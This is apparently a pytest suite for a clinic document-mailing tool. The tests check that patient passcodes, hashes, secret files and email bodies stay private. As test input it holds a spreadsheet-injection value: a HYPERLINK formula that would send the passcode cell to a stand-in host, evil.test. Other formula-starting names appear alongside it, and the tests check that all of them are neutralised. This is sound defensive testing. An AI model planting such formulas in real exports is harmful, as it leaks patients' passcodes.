"""Patient privacy: spreadsheet-safe CSV files, keyed hashes, passcodes patients can type, and
email bodies that give nothing away. Mail goes to a real SMTP server on 127.0.0.1."""

from __future__ import annotations

import csv
import io
import json
import re
import stat
import subprocess
import time
import zipfile
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pypdfium2 as pdfium  # type: ignore[import-untyped]
import pytest
from canary import PATIENT, patient_input
from conftest import cli, edit, line_of
from pypdf import PdfReader
from servers import ALDER, SmtpServer, use_server

from handoutgen.compose.compose import Request
from handoutgen.deliver.ledger import PasscodeList
from handoutgen.deliver.mail import Outgoing, legacy_key, new_passcode
from handoutgen.errors import Problem
from handoutgen.library.gather import load_library
from handoutgen.web.batch import Job

pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS",
                                        "ignore:Session.login_data is deprecated")]

NAME, ADDRESS = PATIENT, "ana.lima@patients.test"
# A name that a spreadsheet would run as a formula, sending the cell two columns on (the passcode) away.
FORMULA = '=HYPERLINK("http://evil.test/?"&E2,"Ana")'


def one(name: str = NAME, *more: str) -> tuple[str, ...]:
    """The arguments that email one patient of Alder two documents."""
    return ("email", "--clinic", "alder", "--treatment", "needling", "--kind", "consent", "--kind",
            "aftercare", f"--patient-name={name}", "--field", "appointment_date=2026-12-01", "--to",
            ADDRESS, "--appointment-id", "A1001", *more)


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def passcodes(out: Path) -> dict[str, dict[str, str]]:
    with (out / "passcodes.csv").open(encoding="utf-8", newline="") as handle:
        return {row["appointment_id"]: row for row in csv.DictReader(handle)}


def pdfs(message: EmailMessage) -> dict[str, bytes]:
    return {str(part.get_filename()): part.get_content() for part in message.iter_attachments()}


def body(message: EmailMessage, kind: str = "plain") -> str:
    part = message.get_body((kind,))
    assert part is not None
    return str(part.get_content())


# 1. Formula injection


@pytest.mark.parametrize("name", [FORMULA, "+1 Lima", "-Ana", "@SUM(A1)"])
def test_a_name_that_starts_a_formula_is_text_in_the_passcode_list(lib: Path, tmp_path: Path,
                                                                   smtp: SmtpServer, name: str) -> None:
    out = tmp_path / "mail"
    run = cli(lib, *one(name), "--out", str(out))
    assert run.code == 0, run.err
    header, row = csv_rows(out / "passcodes.csv")
    assert row[header.index("patient_name")] == "'" + name  # a spreadsheet shows it, never runs it
    assert row[header.index("appointment_id")] == "A1001"
    raw = (out / "passcodes.csv").read_text(encoding="utf-8")
    assert raw.splitlines()[0].startswith('"appointment_id","appointment_date"')  # every cell quoted


def test_a_passcode_list_others_could_read_is_made_private_before_it_gets_a_row(
        lib: Path, tmp_path: Path, smtp: SmtpServer) -> None:
    out = tmp_path / "mail"
    out.mkdir()
    restored = out / "passcodes.csv"  # as a copy or a restored backup may come back
    restored.write_text('"appointment_id","appointment_date","appointment_time","patient_name","passcode",'
                        '"message_id","created"\r\n', encoding="utf-8")
    restored.chmod(0o644)
    assert cli(lib, *one(), "--out", str(out)).code == 0
    assert stat.S_IMODE(restored.stat().st_mode) == 0o600
    assert len(csv_rows(restored)) == 2


def test_the_passcode_list_reads_back_what_it_wrote(tmp_path: Path) -> None:
    written = PasscodeList(tmp_path)
    rows = [{"appointment_id": "-A1", "patient_name": FORMULA, "passcode": "0123 4567 8901 2345",
             "message_id": "<handout-1@clinic.test>"},
            {"appointment_id": "A2", "patient_name": 'Jo "JJ" O\'Neil, Jr', "passcode": "9999 0000 1111 2222",
             "message_id": "<handout-2@clinic.test>"}]
    for row in rows:
        written.add(row)
    assert PasscodeList(tmp_path).known == {"<handout-1@clinic.test>": "0123 4567 8901 2345",
                                            "<handout-2@clinic.test>": "9999 0000 1111 2222"}
    names = [row["patient_name"] for row in passcodes(tmp_path).values()]
    assert names == ["'" + FORMULA, 'Jo "JJ" O\'Neil, Jr']


def test_every_cell_of_the_row_problems_list_is_neutralised(tmp_path: Path) -> None:
    job = Job("j", "owner", tmp_path, rows=2, total=2, packet=False, clock=time.monotonic)
    job.problems = [Problem("day.csv", 2, "\tpatient_name", "\r=1+1", "@x"),
                    Problem("day.csv", 3, "date", " =1+1", "-1 or \uff1dYYYY-MM-DD")]
    job.out.mkdir()
    with zipfile.ZipFile(job.archive()) as archive:
        text = archive.read("row-problems.csv").decode()
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["line", "column", "problem", "allowed"],
        ["2", "'\tpatient_name", "'\r=1+1", "'@x"],
        ["3", "date", "' =1+1", "'-1 or \uff1dYYYY-MM-DD"]]


# 9. Keyed hashes


def ledger(out: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (out / "ledger.jsonl").read_text().splitlines()]


def use_secret(monkeypatch: pytest.MonkeyPatch, path: Path) -> Path:
    monkeypatch.setenv("HANDOUTGEN_SECRET", str(path))
    return path


def hashes(lib: Path, out: Path, smtp: SmtpServer) -> tuple[str, str, str, str]:
    """Message-ID, ledger key, a batch document's manifest `inputs` and a built file's name."""
    assert cli(lib, *one(), "--out", str(out / "mail")).code == 0
    day = patient_input(out / "day.csv")
    day.write_text(f"appointment_id,clinic,patient_name,treatment,documents,date,time,practitioner\n"
                   f"B1,alder,{NAME},peel,aftercare,2026-12-01,10:30,\n", encoding="utf-8")
    assert cli(lib, "batch", "--appointments", str(day), "--out", str(out / "batch")).code == 0
    (record,) = (json.loads(line) for line in (out / "batch/manifest.jsonl").read_text().splitlines())
    built = cli(lib, "build", "--clinic", "alder", "--treatment", "peel", "--kind", "aftercare",
                "--patient-name", NAME)
    assert built.code == 0, built.err
    return (str(smtp.messages[-1].message["Message-ID"]), ledger(out / "mail")[-1]["key"], record["inputs"],
            built.out.split("/")[-1].strip())


def test_hashes_over_patient_values_are_keyed_with_the_installation_secret(
        lib: Path, tmp_path: Path, smtp: SmtpServer, monkeypatch: pytest.MonkeyPatch) -> None:
    first = use_secret(monkeypatch, tmp_path / "one" / "secret")
    a = hashes(lib, tmp_path / "a", smtp)
    use_secret(monkeypatch, tmp_path / "two" / "secret")
    b = hashes(lib, tmp_path / "b", smtp)
    use_secret(monkeypatch, first)
    again = hashes(lib, tmp_path / "c", smtp)
    assert again == a  # the same secret gives the same hashes: reruns still match
    assert all(x != y for x, y in zip(a, b, strict=True))  # another secret: nothing can be compared
    assert a[0] == f"<handout-{a[1]}@clinic.test>"
    assert a[3].startswith("peel-aftercare-") and a[3] != b[3]


def test_the_secret_is_made_on_first_use_readable_by_its_owner_only(
        lib: Path, tmp_path: Path, smtp: SmtpServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("HANDOUTGEN_SECRET")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    out = tmp_path / "mail"
    assert cli(lib, *one(), "--out", str(out)).code == 0
    secret = tmp_path / "xdg" / "handoutgen" / "secret"
    assert re.fullmatch(r"[0-9a-f]{64}\n", secret.read_text())
    modes = (oct(secret.stat().st_mode & 0o777), oct(secret.parent.stat().st_mode & 0o777))
    assert modes == ("0o600", "0o700")
    made = secret.read_text()
    rerun = cli(lib, *one(), "--out", str(out))
    assert rerun.out.startswith("Sent 0 messages, skipped 1") and secret.read_text() == made
    monkeypatch.delenv("XDG_CONFIG_HOME")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert cli(lib, *one(), "--out", str(tmp_path / "other")).code == 0
    assert (tmp_path / "home/.config/handoutgen/secret").read_text() != made
    assert len(smtp.messages) == 2


def test_a_secret_others_can_read_or_that_is_damaged_is_refused(
        lib: Path, tmp_path: Path, smtp: SmtpServer, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = use_secret(monkeypatch, tmp_path / "secret")
    secret.write_text("ab" * 32 + "\n")
    secret.chmod(0o640)
    run = cli(lib, *one(), "--out", str(tmp_path / "mail"))
    assert (run.code, run.errors) == (1, [f"error: {secret}:1: secret: other users can read or change it "
                                          f"(readable by its owner only: chmod 600 {secret})"])
    secret.chmod(0o600)
    secret.write_text("not a secret\n")
    run = cli(lib, *one(), "--out", str(tmp_path / "mail"))
    assert (run.code, run.errors) == (1, [f"error: {secret}:1: secret: is not a secret this program made "
                                          "(64 hexadecimal digits: restore the file from its backup)"])
    assert smtp.messages == []


def test_a_ledger_written_with_another_secret_stops_before_anything_is_sent(
        lib: Path, tmp_path: Path, smtp: SmtpServer, monkeypatch: pytest.MonkeyPatch) -> None:
    use_secret(monkeypatch, tmp_path / "old" / "secret")
    out = tmp_path / "mail"
    assert cli(lib, *one(), "--out", str(out)).code == 0
    use_secret(monkeypatch, tmp_path / "new" / "secret")  # e.g. a new computer without the backup
    run = cli(lib, *one(), "--out", str(out))
    assert run.code == 3
    assert run.errors == [
        f"error: {out}/ledger.jsonl:1: secret: was written with another installation secret, so its "
        f"messages would all be sent again (restore that secret to {tmp_path}/new/secret from its "
        "backup (see docs/admin.md); or move the ledger away, knowing that its messages will then be "
        "sent again)"]
    assert len(smtp.messages) == 1


def legacy_ledger(lib: Path, out: Path, status: str) -> str:
    """A ledger as versions before the installation secret wrote it (plain SHA-256 keys)."""
    library = load_library(lib)
    requests = tuple(Request("alder", "needling", kind, "en",
                             (("appointment_date", "2026-12-01"), ("patient_name", NAME)))
                     for kind in ("consent", "aftercare"))
    key = legacy_key(library, Outgoing("A1001", ADDRESS, requests))
    mid = f"<handout-{key}@clinic.test>"
    out.mkdir()
    (out / "ledger.jsonl").write_text(json.dumps({"key": key, "status": status, "message_id": mid,
                                                  "appointment_id": "A1001"}) + "\n")
    (out / "passcodes.csv").write_text("appointment_id,appointment_date,appointment_time,patient_name,"
                                       f"passcode,message_id,created\r\nA1001,2026-12-01,,{NAME},"
                                       f"K7QM-4XT9-BR2D,{mid},2026-11-30T10:00:00+00:00\r\n")
    (out / "passcodes.csv").chmod(0o600)  # as those versions made it
    return mid


def test_a_message_a_ledger_from_before_the_secret_recorded_is_not_sent_again(
        lib: Path, tmp_path: Path, smtp: SmtpServer) -> None:
    out = tmp_path / "mail"
    legacy_ledger(lib, out, "sent")
    run = cli(lib, *one(), "--out", str(out))
    assert run.code == 0, run.err
    assert run.out.startswith("Sent 0 messages, skipped 1 (already sent)")
    assert smtp.messages == []


def test_an_unknown_message_from_before_the_secret_is_resent_as_the_same_message(
        lib: Path, tmp_path: Path, smtp: SmtpServer) -> None:
    out = tmp_path / "mail"
    mid = legacy_ledger(lib, out, "unknown")
    assert cli(lib, *one(), "--out", str(out)).out.startswith("Sent 0 messages, skipped 0 (already sent), "
                                                              "failed 0, unknown 1")
    run = cli(lib, *one(), "--out", str(out), "--resend-unknown")
    assert run.code == 0, run.err
    (received,) = smtp.messages
    assert received.message["Message-ID"] == mid  # mail programs can tell it is the same message
    for data in pdfs(received.message).values():  # the passcode the patient was given still opens it
        assert PdfReader(io.BytesIO(data)).decrypt("K7QM-4XT9-BR2D")
        assert PdfReader(io.BytesIO(data)).decrypt("K7QM4XT9BR2D")
    assert ledger(out)[-1]["status"] == "sent" and ledger(out)[-1]["message_id"] == mid
    assert cli(lib, *one(), "--out", str(out)).out.startswith("Sent 0 messages, skipped 1 (already sent)")


# 12. Passcodes patients can type


def opens(path: Path, password: str) -> dict[str, bool]:
    """Whether each of qpdf, mutool (MuPDF) and PDFium opens the file with the password and reads it."""
    qpdf = subprocess.run(["qpdf", f"--password={password}", "--decrypt", str(path), "-"],
                          capture_output=True, check=False)
    mutool = subprocess.run(["mutool", "draw", "-q", "-F", "txt", "-o", "-", "-p", password, str(path), "1"],
                            capture_output=True, text=True, check=False)
    try:
        document = pdfium.PdfDocument(str(path), password=password)
        text = document[0].get_textpage().get_text_range()
        document.close()
    except pdfium.PdfiumError:
        text = ""
    return {"qpdf": qpdf.returncode == 0 and qpdf.stdout.startswith(b"%PDF"),
            "mutool": "Alder Test Clinic" in mutool.stdout, "pdfium": "Alder Test Clinic" in text}


def test_the_passcode_opens_the_attachment_typed_with_or_without_its_spaces(
        lib: Path, tmp_path: Path, smtp: SmtpServer) -> None:
    out = tmp_path / "mail"
    assert cli(lib, *one(), "--out", str(out)).code == 0
    passcode = passcodes(out)["A1001"]["passcode"]
    assert re.fullmatch(r"[0-9]{4} [0-9]{4} [0-9]{4} [0-9]{4}", passcode)
    (received,) = smtp.messages
    files = pdfs(received.message)
    assert len(files) == 2
    for name, data in files.items():
        path = tmp_path / name
        path.write_bytes(data)
        everywhere = {"qpdf": True, "mutool": True, "pdfium": True}
        assert opens(path, passcode) == everywhere
        assert opens(path, passcode.replace(" ", "")) == everywhere
        wrong = str((int(passcode.replace(" ", "")) + 1) % 10**16).zfill(16)
        assert opens(path, wrong) == {"qpdf": False, "mutool": False, "pdfium": False}
    text, html = body(received.message), body(received.message, "html")
    how = ("When your PDF reader asks for a password, type the 16 digits of the passcode. You may type "
           "the spaces between the groups of four, or leave them out.")
    assert how in " ".join(text.split()) and how in " ".join(html.split())
    assert passcode not in received.message.as_string() and passcode.replace(" ", "") not in \
        received.message.as_string()


def test_passcodes_are_sixteen_random_digits() -> None:
    made = [new_passcode() for _ in range(2000)]
    assert len(set(made)) == 2000
    assert all(re.fullmatch(r"[0-9]{4} [0-9]{4} [0-9]{4} [0-9]{4}", p) for p in made)
    digits = [p.replace(" ", "") for p in made]
    assert all({d[i] for d in digits} == set("0123456789") for i in range(16))  # every place varies fully


# 13. The email body


NEXT = ("--field", "next_appointment_date=2026-12-15", "--field", "next_appointment_time=10:30")
MINIMAL = """Hello,

We have attached 2 documents for you from Alder Test Clinic.

Please read them carefully and keep them to hand.

To keep your information private, the files are locked with a passcode. We will give you the \
passcode by phone or text message. We never send it by email.

When your PDF reader asks for a password, type the 16 digits of the passcode. You may type the \
spaces between the groups of four, or leave them out.

If you have questions, call us on 01632 960 001 (Monday to Friday, 9 am to 5 pm).
Outside those hours, call 01632 960 002. In an emergency, call 999.

Alder Test Clinic
1 Alder Row, Testbury TB1 1AA, United Kingdom
https://alder.example/
"""


def test_by_default_the_email_names_no_patient_treatment_or_date(lib: Path, tmp_path: Path,
                                                                 smtp: SmtpServer) -> None:
    out = tmp_path / "mail"
    assert cli(lib, *one(), *NEXT, "--out", str(out)).code == 0
    (received,) = smtp.messages
    message = received.message
    assert message["Subject"] == "Alder Test Clinic: your documents"
    assert body(message).replace("\r\n", "\n") == MINIMAL
    files = pdfs(message)
    assert sorted(files) == ["alder-aftercare.pdf", "alder-consent-form.pdf"]  # no treatment in the names
    headers = [f"{k}: {v}" for k, v in message.items() if k != "Date"]  # the Date is when it was sent
    clear = "\n".join([*headers, body(message), body(message, "html")])
    for detail in (NAME, *NAME.split(), "Needling", "needling", "December", "2026", "10:30"):
        assert detail not in clear
    for detail in (NAME, "Needling", "needling", "December"):  # long enough not to turn up by chance
        assert detail.encode() not in b"".join(files.values())  # the PDF's metadata is encrypted too
    passcode = passcodes(out)["A1001"]["passcode"]
    reader = PdfReader(io.BytesIO(files["alder-consent-form.pdf"]))
    assert reader.decrypt(passcode)
    inside = " ".join(reader.pages[0].extract_text().split())
    assert NAME in inside and "1 December 2026" in inside and "Consent to needling" in inside


def test_a_clinic_may_choose_a_detailed_body(lib: Path, tmp_path: Path, smtp: SmtpServer) -> None:
    use_server(lib, smtp, body="detailed")
    assert cli(lib, *one(), *NEXT, "--out", str(tmp_path / "mail")).code == 0
    message = smtp.messages[0].message
    assert message["Subject"] == "Alder Test Clinic: your Needling documents"
    text = body(message)
    assert text.startswith(f"Hello {NAME},\r\n\r\nYour Needling appointment is on 1 December 2026.\r\n"
                           "\r\nWe have attached these documents for you:\r\n- Consent to needling\r\n"
                           "- Aftercare after needling\r\n")
    assert f"Hello {NAME}," in body(message, "html") and "type the 16 digits" in text
    assert sorted(pdfs(message)) == ["needling-aftercare.pdf", "needling-consent-form.pdf"]


def test_the_spanish_email_is_minimal_too(lib: Path, tmp_path: Path, smtp: SmtpServer) -> None:
    run = cli(lib, "email", "--clinic", "birch", "--treatment", "needling", "--kind", "aftercare",
              "--language", "es", "--patient-name", "Lucía Fernández", "--field",
              "appointment_date=2026-12-02", "--to", "lucia@patients.test", "--out", str(tmp_path / "mail"))
    assert run.code == 0, run.err
    message = smtp.messages[0].message
    assert message["Subject"] == "Birch Test Dermatology: su documento"
    text = " ".join(body(message).split())
    assert text.startswith("Hola: Le enviamos un documento de Birch Test Dermatology. Por favor, léalo")
    assert ("Cuando su lector de PDF le pida la contraseña, escriba las 16 cifras de la contraseña. Puede "
            "escribir los espacios entre los grupos de cuatro o no escribirlos.") in text
    for detail in ("Lucía", "Punción", "punción", "diciembre"):
        assert detail not in text and detail not in body(message, "html")
    assert list(pdfs(message)) == ["birch-cuidados-posteriores.pdf"]  # the kind's name in Spanish


def test_the_body_setting_is_checked(lib: Path) -> None:
    text = edit(lib, ALDER, "  attachments: passcode\n", "  attachments: passcode\n  body: chatty\n")
    run = cli(lib, "check")
    assert run.code == 1
    assert run.errors == [f"error: {ALDER}:{line_of(text, 'body: chatty')}: mail.body: 'chatty' is not "
                          "allowed (expected one of: minimal, detailed)"]


def test_a_clinic_template_cannot_show_details_the_clinic_did_not_choose_to_send(lib: Path) -> None:
    override = lib / "assets/clinics/alder/templates/email/en/body.txt.j2"
    override.parent.mkdir(parents=True)
    override.write_text("Dear {{ patient.patient_name }},\nSee the attachment.\n", encoding="utf-8")
    run = cli(lib, "check")
    assert (run.code, run.errors) == (1, [
        "error: assets/clinics/alder/templates/email/en/body.txt.j2:1: (template): undefined value: "
        "'patient' is undefined (names listed under Layouts in docs/designers.md)"])
    edit(lib, ALDER, "  attachments: passcode\n", "  attachments: passcode\n  body: detailed\n")
    assert cli(lib, "check").code == 0
